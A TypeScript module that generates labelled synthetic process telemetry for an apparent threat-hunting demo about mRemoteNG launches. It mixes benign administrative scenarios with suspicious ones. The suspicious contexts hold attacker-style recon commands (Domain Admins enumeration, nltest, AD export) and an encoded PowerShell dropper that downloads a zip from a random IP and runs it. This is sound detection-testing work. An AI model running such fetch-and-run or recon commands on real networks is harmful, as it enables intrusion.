// The demo's mRemoteNG story: which devices run it, from which parents, when, and what it starts;
// each event labelled suspicious, near-miss or with the false-positive scenario it belongs to.
import type { Binary, BinaryCatalog, BinaryKey, MRemoteNgBuild, NearMissBuild } from './demo-binaries';
import { DAY_MS, type EventSpec, HOUR_MS } from './demo-event-row';
import type { AccountKind, DemoDevice, DemoFleet } from './demo-fleet';
import type { DemoEventLabel, FalsePositiveScenarioId } from './demo-labels';
import type { IntegrityLevel } from './demo-noise-templates';
import { createRng, type Rng } from './prng';

export interface PlannedEvent {
  spec: Omit<EventSpec, 'reportId'>;
  label: DemoEventLabel;
  /** `tool`: an mRemoteNG (or look-alike) launch; `child`: a process it started. */
  subject?: 'child';
}

type Timing = 'business' | 'maintenance' | 'nightly' | 'schedule' | 'anytime';

interface ChildTemplate {
  binary: BinaryKey;
  command: string;
}

/** One way mRemoteNG gets started: its parent process, command lines and account. */
interface LaunchContext {
  parent: BinaryKey;
  grandparent: string;
  parentCommand: string;
  /** `{path}` is the mRemoteNG image's own path. */
  command: string;
  account: AccountKind;
  parentAccount?: AccountKind;
  parentIntegrity?: IntegrityLevel;
  /** How long the parent has been running, in seconds. */
  parentAge: readonly [number, number];
  builds: readonly MRemoteNgBuild[];
  timing: Timing;
  children: readonly ChildTemplate[];
}

const MINUTE = 60;
const HOUR = 3600;
const DAY = 86_400;
const SINCE_BOOT = [HOUR, 9 * DAY] as const;
const SINCE_LOGON = [5 * MINUTE, 10 * HOUR] as const;
const JUST_NOW = [2, 20 * MINUTE] as const;
const POWERSHELL = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"';
const IME = 'C:\\Program Files (x86)\\Microsoft Intune Management Extension';
const VEEAM = 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup';
const INSTALLED: readonly MRemoteNgBuild[] = [
  'installed',
  'installed',
  'installed',
  'installedLower',
  'upper',
];

const FALSE_POSITIVE_CONTEXTS: Record<FalsePositiveScenarioId, readonly LaunchContext[]> = {
  'fp-admin-scripts': [
    {
      parent: 'powershell.exe',
      grandparent: 'explorer.exe',
      parentCommand: `${POWERSHELL} -NoProfile -Command "Update-Module -Name PSWindowsUpdate,Az.Accounts -Force; Start-Process '{path}' -ArgumentList '--cons \\\\{host}\\it$\\mRemoteNG\\servers.xml'"`,
      command: '"{path}" --cons \\\\{host}\\it$\\mRemoteNG\\servers.xml',
      account: 'admin',
      parentAge: JUST_NOW,
      builds: INSTALLED,
      timing: 'business',
      children: [
        {
          binary: 'powershell.exe',
          command: `${POWERSHELL} -NoProfile -Command "Invoke-Command -ComputerName {host} -ScriptBlock { Update-Module -Name PSWindowsUpdate -Force; Install-WindowsUpdate -AcceptAll -IgnoreReboot }"`,
        },
      ],
    },
    {
      parent: 'powershell.exe',
      grandparent: 'explorer.exe',
      parentCommand: `powershell.exe -ExecutionPolicy Bypass -Command "Install-Script -Name Get-WindowsAutopilotInfo -Force -Scope CurrentUser; & '{path}'"`,
      command: '"{path}"',
      account: 'admin',
      parentAge: JUST_NOW,
      builds: INSTALLED,
      timing: 'business',
      children: [
        {
          binary: 'powershell.exe',
          command: `${POWERSHELL} -NoProfile -Command "Install-Script -Name Get-WindowsAutopilotInfo -Force; Get-WindowsAutopilotInfo.ps1 -ComputerName {host} -OutputFile C:\\Temp\\autopilot-{n}.csv"`,
        },
      ],
    },
    {
      parent: 'powershell.exe',
      grandparent: 'cmd.exe',
      parentCommand: `${POWERSHELL} -NoProfile -File C:\\Scripts\\Maintenance.ps1 -Step "Update-Module ExchangeOnlineManagement" -Then "{path}"`,
      command: '"{path}" --cons C:\\Scripts\\maintenance-targets.xml',
      account: 'admin',
      parentAge: JUST_NOW,
      builds: INSTALLED,
      timing: 'business',
      children: [],
    },
  ],
  'fp-scheduled-monitoring': [
    {
      parent: 'svchost.exe',
      grandparent: 'services.exe',
      parentCommand: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\health-checks.xml"',
      account: 'service',
      parentAccount: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'schedule',
      children: [
        {
          binary: 'cmd.exe',
          command: 'cmd.exe /c "C:\\Monitoring\\scripts\\check-rdp-latency.cmd" {host}',
        },
      ],
    },
    {
      parent: 'taskeng.exe',
      grandparent: 'svchost.exe',
      parentCommand: 'taskeng.exe {{guid}} S-1-5-18:NT AUTHORITY\\System:Service:',
      command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\health-checks.xml"',
      account: 'system',
      parentAge: [1, 30],
      builds: ['installed'],
      timing: 'schedule',
      children: [],
    },
    {
      parent: 'taskhostw.exe',
      grandparent: 'svchost.exe',
      parentCommand: 'taskhostw.exe {guid}',
      command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\perf-baseline.xml"',
      account: 'service',
      parentAge: [1, 30],
      builds: ['installed', 'installedLower'],
      timing: 'schedule',
      children: [
        {
          binary: 'powershell.exe',
          command: `${POWERSHELL} -NoProfile -File C:\\Monitoring\\scripts\\Get-PerfCounters.ps1 -Computer {host}`,
        },
      ],
    },
    {
      parent: 'prtg probe.exe',
      grandparent: 'services.exe',
      parentCommand: '"C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe"',
      command:
        '"{path}" --cons "C:\\Program Files (x86)\\PRTG Network Monitor\\Custom Sensors\\EXE\\rdp-targets.xml"',
      account: 'service',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'schedule',
      children: [],
    },
    {
      parent: 'nscp.exe',
      grandparent: 'services.exe',
      parentCommand: '"C:\\Program Files\\NSClient++\\nscp.exe" service --run --name nscp',
      command: '"{path}" --cons "C:\\Program Files\\NSClient++\\scripts\\rdp-check.xml"',
      account: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'schedule',
      children: [
        {
          binary: 'cmd.exe',
          command: 'cmd /c scripts\\check_rdp.bat {host} 3389',
        },
      ],
    },
    {
      parent: 'solarwinds.agent.service.exe',
      grandparent: 'services.exe',
      parentCommand: '"C:\\Program Files (x86)\\SolarWinds\\Agent\\SolarWinds.Agent.Service.exe"',
      command: '"{path}" --cons "C:\\ProgramData\\SolarWinds\\Agent\\rdp-monitor.xml"',
      account: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'schedule',
      children: [],
    },
  ],
  'fp-configmgr-intune': [
    {
      parent: 'ccmexec.exe',
      grandparent: 'services.exe',
      parentCommand: 'C:\\Windows\\CCM\\CcmExec.exe',
      command: '"{path}" --cons "C:\\Windows\\ccmcache\\{n}\\mem-agent-targets.xml"',
      account: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed', 'installedLower'],
      timing: 'maintenance',
      children: [
        {
          binary: 'ccmsetup.exe',
          command: '"C:\\Windows\\ccmsetup\\ccmsetup.exe" /mp:{host} SMSSITECODE=P01 /forceinstall /upgrade',
        },
      ],
    },
    {
      parent: 'intunemanagementextension.exe',
      grandparent: 'services.exe',
      parentCommand: `"${IME}\\IntuneManagementExtension.exe"`,
      command: '"{path}"',
      account: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'maintenance',
      children: [
        {
          binary: 'agentexecutor.exe',
          command: `"${IME}\\AgentExecutor.exe" -powershell "${IME}\\Policies\\Scripts\\{guid}_Update-MEMAgent.ps1" "${IME}\\Policies\\Results\\{guid}_1.output" 60000 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" 0`,
        },
      ],
    },
    {
      parent: 'agentexecutor.exe',
      grandparent: 'IntuneManagementExtension.exe',
      parentCommand: `"${IME}\\AgentExecutor.exe" -powershell "${IME}\\Policies\\Scripts\\{guid}_Update-MEMAgent.ps1" "${IME}\\Policies\\Results\\{guid}_1.output" 60000 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" 0`,
      command:
        '"{path}" --cons "C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\mem-agent-update.xml"',
      account: 'system',
      parentAge: [1, 60],
      builds: ['installed'],
      timing: 'maintenance',
      children: [],
    },
  ],
  'fp-rdp-windows-update': [
    {
      parent: 'rdpclip.exe',
      grandparent: 'svchost.exe',
      parentCommand: 'rdpclip',
      command: '"{path}"',
      account: 'admin',
      parentAge: SINCE_LOGON,
      builds: INSTALLED,
      timing: 'business',
      children: [
        {
          binary: 'usoclient.exe',
          command: 'UsoClient.exe StartInteractiveScan',
        },
      ],
    },
    {
      parent: 'mstsc.exe',
      grandparent: 'explorer.exe',
      parentCommand: '"C:\\Windows\\system32\\mstsc.exe" /v:{host} /admin',
      command: '"{path}" --cons \\\\{host}\\it$\\mRemoteNG\\patch-targets.xml',
      account: 'admin',
      parentAge: [MINUTE, 3 * HOUR],
      builds: INSTALLED,
      timing: 'business',
      children: [],
    },
    {
      parent: 'svchost.exe',
      grandparent: 'services.exe',
      parentCommand: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -s wuauserv',
      command: '"{path}"',
      account: 'system',
      parentAge: SINCE_BOOT,
      builds: ['installed'],
      timing: 'maintenance',
      children: [
        {
          binary: 'wuauclt.exe',
          command: '"C:\\Windows\\system32\\wuauclt.exe" /detectnow /updatenow',
        },
      ],
    },
  ],
  'fp-veeam-backup': [
    {
      parent: 'veeam.backup.manager.exe',
      grandparent: 'Veeam.Backup.Service.exe',
      parentCommand: `"${VEEAM}\\Veeam.Backup.Manager.exe" startbackupjob owner=[vbsvc] {guid}`,
      command: '"{path}" --cons "D:\\Scripts\\Veeam\\pre-job-hosts.xml"',
      account: 'service',
      parentAge: [5, 10 * MINUTE],
      builds: ['installed'],
      timing: 'nightly',
      children: [
        {
          binary: 'powershell.exe',
          command: `${POWERSHELL} -NoProfile -ExecutionPolicy Bypass -File "D:\\Scripts\\Veeam\\Pre-Backup-Freeze.ps1" -Job "Nightly-Backup" -Target {host}`,
        },
        {
          binary: 'cmd.exe',
          command: 'cmd.exe /c "D:\\Scripts\\Veeam\\post-backup.cmd" Nightly-Backup {n}',
        },
      ],
    },
    {
      parent: 'veeamagent.exe',
      grandparent: 'Veeam.Backup.Manager.exe',
      parentCommand: `"${VEEAM}\\x64\\VeeamAgent.exe" -l "C:\\ProgramData\\Veeam\\Backup\\Nightly-Backup\\Agent.Target.{n}.log" -id {guid}`,
      command: '"{path}" --cons "D:\\Scripts\\Veeam\\backup-targets.xml"',
      account: 'service',
      parentAge: [5, 2 * HOUR],
      builds: ['installed'],
      timing: 'nightly',
      children: [],
    },
  ],
};

// "Suspicious" here means outside every false-positive context: what a hunt should still show.
const SUSPICIOUS_CONTEXTS: readonly LaunchContext[] = [
  {
    parent: 'explorer.exe',
    grandparent: 'userinit.exe',
    parentCommand: 'C:\\Windows\\Explorer.EXE',
    command: '"{path}"',
    account: 'user',
    parentAge: SINCE_LOGON,
    builds: ['portable', 'portable', 'installed'],
    timing: 'anytime',
    children: [
      { binary: 'cmd.exe', command: 'cmd.exe /c whoami /all' },
      {
        binary: 'puttyng.exe',
        command: '"C:\\Program Files (x86)\\mRemoteNG\\PuTTYNG.exe" -load "{host}" -ssh',
      },
    ],
  },
  {
    parent: 'cmd.exe',
    grandparent: 'wscript.exe',
    parentCommand:
      'cmd.exe /c start "" "C:\\ProgramData\\mrng\\mRemoteNG.exe" --cons C:\\ProgramData\\mrng\\c.xml',
    command: '"{path}" --cons C:\\ProgramData\\mrng\\c.xml',
    account: 'user',
    parentAge: [1, 5],
    builds: ['stagedPortable'],
    timing: 'anytime',
    children: [
      { binary: 'cmd.exe', command: 'cmd.exe /c net group "Domain Admins" /domain' },
      {
        binary: 'powershell.exe',
        command:
          'powershell.exe -nop -c "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv"',
      },
    ],
  },
  {
    parent: 'powershell.exe',
    grandparent: 'winword.exe',
    parentCommand: 'powershell.exe -nop -w hidden -enc {b64}',
    command: '"{path}"',
    account: 'user',
    parentAge: [1, 30],
    builds: ['stagedPortable'],
    timing: 'anytime',
    children: [{ binary: 'cmd.exe', command: 'cmd.exe /c nltest /dclist:' }],
  },
  {
    parent: 'powershell.exe',
    grandparent: 'cmd.exe',
    parentCommand:
      'powershell.exe -c "iwr https://github.com/mRemoteNG/mRemoteNG/releases/download/v1.76.20/mRemoteNG-Portable-1.76.20.24615.zip -OutFile $env:TEMP\\m.zip; Expand-Archive $env:TEMP\\m.zip C:\\ProgramData\\mrng -Force; & C:\\ProgramData\\mrng\\mRemoteNG.exe"',
    command: 'C:\\ProgramData\\mrng\\mRemoteNG.exe',
    account: 'user',
    parentAge: [5, 120],
    builds: ['stagedPortable'],
    timing: 'anytime',
    children: [],
  },
  {
    parent: 'mmc.exe',
    grandparent: 'explorer.exe',
    parentCommand: '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s',
    command: '"{path}"',
    account: 'admin',
    parentAge: [MINUTE, 2 * HOUR],
    builds: INSTALLED,
    timing: 'anytime',
    children: [],
  },
  {
    parent: 'cmd.exe',
    grandparent: 'explorer.exe',
    parentCommand: '"C:\\Windows\\system32\\cmd.exe"',
    command: '"{path}" --cons \\\\{host}\\c$\\Users\\Public\\confCons.xml',
    account: 'user',
    parentAge: [10, 40 * MINUTE],
    builds: ['upper', 'installedLower'],
    timing: 'anytime',
    children: [{ binary: 'cmd.exe', command: 'cmd.exe /c reg query HKLM\\SOFTWARE\\mRemoteNG /s' }],
  },
  {
    parent: 'explorer.exe',
    grandparent: 'userinit.exe',
    parentCommand: 'C:\\Windows\\Explorer.EXE',
    command: '"{path}"',
    account: 'admin',
    parentAge: SINCE_LOGON,
    builds: INSTALLED,
    timing: 'anytime',
    children: [],
  },
];

const NEAR_MISS_BUILDS: readonly NearMissBuild[] = ['suffixed', 'prefixed', 'split'];

export interface PlanOptions {
  seed: number;
  fleet: DemoFleet;
  binaries: BinaryCatalog;
  windowStartMs: number;
  nowMs: number;
  /** At most this many rows; launch rates are thinned to fit. */
  budgetRows: number;
}

/** How many devices run mRemoteNG: about 3.5% of the fleet, at least enough for every story. */
export function mRemoteNgDeviceCount(deviceCount: number): number {
  return Math.min(deviceCount, Math.max(12, Math.round(deviceCount * 0.035)));
}

interface Stream {
  label: DemoEventLabel;
  context: LaunchContext;
  rate: number;
  /** The device's story needs this stream: it gets one launch even when its rate drew none. */
  ensure?: boolean;
}

interface DevicePlan {
  device: DemoDevice;
  startMs: number;
  endMs: number;
  /** Contexts with the label each produces and a per-device rate multiplier. */
  streams: Stream[];
  /** Must show in the last five days, where the seed rule looks. */
  recent: boolean;
}

export function planMRemoteNgEvents(options: PlanOptions): PlannedEvent[] {
  let factor = 1;
  let events = planOnce(options, factor);
  // Fewer launches per day rather than fewer devices: the device spread is what the product shows.
  for (let attempt = 0; attempt < 8 && events.length > options.budgetRows; attempt++) {
    factor *= (options.budgetRows / events.length) * 0.9;
    events = planOnce(options, factor);
  }
  return events;
}

function planOnce(options: PlanOptions, factor: number): PlannedEvent[] {
  const { seed, fleet, windowStartMs, nowMs } = options;
  const pickRng = createRng(seed, 'mremoteng:devices');
  const plans = chooseDevices(pickRng, fleet, windowStartMs, nowMs);
  const events: PlannedEvent[] = [];
  for (const plan of plans) {
    // One stream per device, so that thinning one device never reshuffles another.
    const rng = createRng(seed, `mremoteng:events:${plan.device.index}`);
    const before = events.length;
    const endMs = Math.min(nowMs, plan.endMs);
    // Where a forced launch goes: the seed rule's last five days if the device must show there.
    const forcedFrom = plan.recent ? Math.max(plan.startMs, nowMs - 5 * DAY_MS) : plan.startMs;
    const forcedTime = () => forcedFrom + Math.floor(rng.next() * Math.max(1, endMs - forcedFrom - HOUR_MS));
    for (const stream of plan.streams) {
      const times = launchTimes(rng, stream.context.timing, plan, windowStartMs, nowMs, stream.rate * factor);
      if (times.length === 0 && (stream.ensure || stream === plan.streams[0])) times.push(forcedTime());
      for (const t of times) events.push(...launchEvents(rng, plan.device, stream, t, options));
    }
    const hasRecent = events.slice(before).some((e) => e.spec.timeMs >= nowMs - 5 * DAY_MS);
    const first = plan.streams[0];
    if (plan.recent && !hasRecent && first)
      events.push(...launchEvents(rng, plan.device, first, forcedTime(), options));
  }
  return events.filter((e) => e.spec.timeMs >= windowStartMs && e.spec.timeMs < nowMs);
}

function chooseDevices(rng: Rng, fleet: DemoFleet, windowStartMs: number, nowMs: number): DevicePlan[] {
  const total = mRemoteNgDeviceCount(fleet.devices.length);
  const perScenario = Math.max(1, Math.round(total * 0.07));
  const mixed = Math.max(2, Math.round(total * 0.2));
  const suspiciousOnly = Math.max(1, total - 5 * perScenario - mixed);

  const pool = rng.shuffle([...fleet.devices]);
  const used = new Set<number>();
  const take = (count: number, preferences: ((d: DemoDevice) => boolean)[]): DemoDevice[] => {
    const out: DemoDevice[] = [];
    for (const prefer of [...preferences, () => true]) {
      for (const d of pool) {
        if (out.length >= count) return out;
        if (!used.has(d.index) && prefer(d)) {
          used.add(d.index);
          out.push(d);
        }
      }
    }
    return out;
  };
  const isServer = (d: DemoDevice) => d.kind === 'server';
  const isClient = (d: DemoDevice) => d.kind !== 'server';
  const preferences: Record<FalsePositiveScenarioId, ((d: DemoDevice) => boolean)[]> = {
    'fp-admin-scripts': [(d) => d.itAdmin, (d) => d.profile === 'rds', isClient],
    'fp-scheduled-monitoring': [(d) => d.profile === 'monitoring', isServer],
    'fp-configmgr-intune': [(d) => d.profile === 'configmgr', (d) => d.itAdmin, isClient],
    'fp-rdp-windows-update': [(d) => d.profile === 'rds', isServer],
    'fp-veeam-backup': [(d) => d.profile === 'veeam', isServer],
  };

  // Adoption grows through the month: start = window start + 30 days * sqrt(u), so most devices start late.
  const span = nowMs - windowStartMs;
  const adoption = () => windowStartMs + Math.floor(span * Math.sqrt(rng.next()));
  const plans: DevicePlan[] = [];
  const scenarios = Object.keys(FALSE_POSITIVE_CONTEXTS) as FalsePositiveScenarioId[];

  for (const scenario of scenarios) {
    for (const device of take(perScenario, preferences[scenario])) {
      plans.push({
        device,
        startMs: adoption(),
        endMs: nowMs,
        streams: fpStreams(rng, device, scenario),
        recent: true,
      });
    }
  }
  for (let i = 0; i < mixed; i++) {
    const scenario = scenarios[i % scenarios.length] as FalsePositiveScenarioId;
    for (const device of take(1, [...preferences[scenario], (d) => d.itAdmin])) {
      plans.push({
        device,
        startMs: adoption(),
        endMs: nowMs,
        streams: [
          ...fpStreams(rng, device, scenario),
          { label: 'suspicious', context: rng.pick(SUSPICIOUS_CONTEXTS), rate: 0.4, ensure: true },
        ],
        recent: true,
      });
    }
  }
  const suspiciousFrom = plans.length;
  for (const device of take(suspiciousOnly, [
    (d) => d.kind === 'laptop' && !d.itAdmin,
    (d) => isClient(d) && !d.itAdmin,
  ])) {
    const startMs = adoption();
    // Some users try it once and stop: bursts that end, so not every early device is still active.
    const burst = rng.chance(0.3);
    plans.push({
      device,
      startMs,
      endMs: burst ? startMs + rng.between(1, 4) * DAY_MS : nowMs,
      streams: [{ label: 'suspicious', context: rng.pick(SUSPICIOUS_CONTEXTS), rate: burst ? 1.6 : 1 }],
      recent: !burst,
    });
  }
  // Look-alike products on devices of their own, so that a substring match would add devices to a hunt.
  for (const [i, build] of NEAR_MISS_BUILDS.entries()) {
    for (const device of take(1, [(d) => isClient(d) && !d.itAdmin])) {
      plans.push({
        device,
        startMs: adoption(),
        endMs: nowMs,
        streams: [{ label: 'near-miss', context: nearMissContext(build), rate: 1 }],
        recent: true,
      });
    }
    // ... and next to real launches, so per-device counts must leave them out.
    const host = plans[suspiciousFrom + i];
    host?.streams.push({ label: 'near-miss', context: nearMissContext(build), rate: 0.3 });
  }
  return plans;
}

function fpStreams(rng: Rng, device: DemoDevice, scenario: FalsePositiveScenarioId): Stream[] {
  const contexts = FALSE_POSITIVE_CONTEXTS[scenario];
  let context = rng.pick(contexts);
  if (scenario === 'fp-scheduled-monitoring') {
    // Monitoring servers launch through their own agent; other hosts through the task scheduler.
    const byRole: Record<string, BinaryKey> = {
      prtg: 'prtg probe.exe',
      nagios: 'nscp.exe',
      mon: 'solarwinds.agent.service.exe',
    };
    const agent = byRole[device.role];
    context = contexts.find((c) => c.parent === agent) ?? rng.pick(contexts.slice(0, 3));
  }
  const streams: Stream[] = [{ label: scenario, context, rate: 1, ensure: true }];
  const other = rng.pick(contexts);
  if (other !== context && rng.chance(0.3)) streams.push({ label: scenario, context: other, rate: 0.5 });
  return streams;
}

function nearMissContext(build: NearMissBuild): LaunchContext & { nearMiss: NearMissBuild } {
  return {
    parent: 'explorer.exe',
    grandparent: 'userinit.exe',
    parentCommand: 'C:\\Windows\\Explorer.EXE',
    command: '"{path}"',
    account: 'user',
    parentAge: SINCE_LOGON,
    builds: [],
    timing: 'business',
    children: [],
    nearMiss: build,
  };
}

/** Times of day per timing pattern, in UTC, for every calendar day the device is active. */
function launchTimes(
  rng: Rng,
  timing: Timing,
  plan: DevicePlan,
  windowStartMs: number,
  nowMs: number,
  rate: number,
): number[] {
  const from = Math.max(plan.startMs, windowStartMs);
  const to = Math.min(plan.endMs, nowMs);
  const times: number[] = [];
  const firstDay = Math.floor(from / DAY_MS) * DAY_MS;
  // Schedules are fixed per device: same minute past the hour, same period.
  const period = rng.pick([8, 12, 24]);
  const scheduleOffset = rng.int(period * 60) * 60_000;
  const nightlyAt = (21 + rng.int(3)) * HOUR_MS + rng.int(60) * 60_000;
  for (let day = firstDay; day < to; day += DAY_MS) {
    const weekday = new Date(day).getUTCDay();
    const workday = weekday !== 0 && weekday !== 6;
    const add = (t: number) => {
      if (t >= from && t < to) times.push(t);
    };
    switch (timing) {
      case 'business': {
        if (!rng.chance(Math.min(1, (workday ? 0.55 : 0.08) * rate))) break;
        const count = rng.chance(0.3) ? 2 : 1;
        for (let k = 0; k < count; k++) add(day + rng.between(7, 16) * HOUR_MS + rng.int(HOUR_MS));
        break;
      }
      case 'maintenance': {
        if (workday && rng.chance(Math.min(1, 0.45 * rate)))
          add(day + rng.between(18, 21) * HOUR_MS + rng.int(HOUR_MS));
        break;
      }
      case 'nightly': {
        if (rng.chance(Math.min(1, 0.92 * rate))) add(day + nightlyAt + rng.int(180_000));
        break;
      }
      case 'schedule': {
        for (let t = day + scheduleOffset; t < day + DAY_MS; t += period * HOUR_MS) {
          if (rng.chance(Math.min(1, 0.9 * rate))) add(t + rng.int(90_000));
        }
        break;
      }
      case 'anytime': {
        if (!rng.chance(Math.min(1, 0.5 * rate))) break;
        const count = rng.between(1, 3);
        for (let k = 0; k < count; k++) {
          const hour = rng.chance(0.4) ? rng.int(6) : rng.int(24);
          add(day + hour * HOUR_MS + rng.int(HOUR_MS));
        }
        break;
      }
    }
  }
  return times.sort((a, b) => a - b);
}

function fill(text: string, rng: Rng, hosts: readonly string[], path: string): string {
  return text
    .replaceAll('{path}', path)
    .replaceAll('{host}', () => rng.pick(hosts))
    .replaceAll('{n}', () => String(rng.between(1000, 99_999)))
    .replaceAll('{guid}', () => rng.guid().toUpperCase())
    .replaceAll('{b64}', () => encodedCommand(rng, hosts));
}

/** A PowerShell -EncodedCommand argument (UTF-16LE, base64), as droppers use. */
function encodedCommand(rng: Rng, hosts: readonly string[]): string {
  const script = `$p='C:\\ProgramData\\mrng';iwr http://${rng.between(11, 223)}.${rng.int(256)}.${rng.int(256)}.${rng.int(256)}/u/m.zip -o $p\\m.zip;Expand-Archive $p\\m.zip $p -Force;saps $p\\mRemoteNG.exe '--cons' \\\\${rng.pick(hosts)}\\c$\\c.xml`;
  return Buffer.from(script, 'utf16le').toString('base64');
}

const pid = (rng: Rng) => rng.between(1, 12_000) * 4;

function launchEvents(
  rng: Rng,
  device: DemoDevice,
  stream: Stream,
  timeMs: number,
  { binaries, fleet, windowStartMs }: PlanOptions,
): PlannedEvent[] {
  const { context, label } = stream;
  const nearMiss = (context as Partial<{ nearMiss: NearMissBuild }>).nearMiss;
  const binary: Binary = nearMiss
    ? binaries.nearMiss(nearMiss)
    : binaries.mRemoteNg(rng.pick(context.builds));
  const hosts = fleet.serverHostNames;
  const dayIndex = Math.floor((timeMs - windowStartMs) / DAY_MS);
  const parentCreated =
    timeMs - rng.between(context.parentAge[0], context.parentAge[1]) * 1000 - rng.int(1000);
  const parent = {
    binary: binaries.get(context.parent),
    command: fill(context.parentCommand, rng, hosts, binary.folderPath),
    account: context.parentAccount ?? context.account,
    integrity: context.parentIntegrity,
    processId: pid(rng),
    createdMs: parentCreated,
  };
  const grandparent = {
    fileName: context.grandparent,
    processId: pid(rng),
    createdMs: parentCreated - rng.between(1, 3 * DAY) * 1000,
  };
  const launch = {
    binary,
    command: fill(context.command, rng, hosts, binary.folderPath),
    account: context.account,
    processId: pid(rng),
    createdMs: timeMs,
  };
  const events: PlannedEvent[] = [
    { label, spec: { device, timeMs, dayIndex, process: launch, parent, grandparent } },
  ];
  // What mRemoteNG itself starts (external tools, PuTTY): same story, one level down the tree.
  const childCount = context.children.length === 0 ? 0 : rng.chance(0.55) ? (rng.chance(0.25) ? 2 : 1) : 0;
  for (let k = 0; k < childCount; k++) {
    const template = rng.pick(context.children);
    const childTime = timeMs + rng.between(3, 20 * 60) * 1000 + rng.int(1000);
    events.push({
      label,
      subject: 'child',
      spec: {
        device,
        timeMs: childTime,
        dayIndex: Math.floor((childTime - windowStartMs) / DAY_MS),
        process: {
          binary: binaries.get(template.binary),
          command: fill(template.command, rng, hosts, binary.folderPath),
          account: context.account,
          processId: pid(rng),
          createdMs: childTime,
        },
        parent: launch,
        grandparent: {
          fileName: parent.binary.fileName,
          processId: parent.processId,
          createdMs: parent.createdMs,
        },
      },
    });
  }
  return events;
}
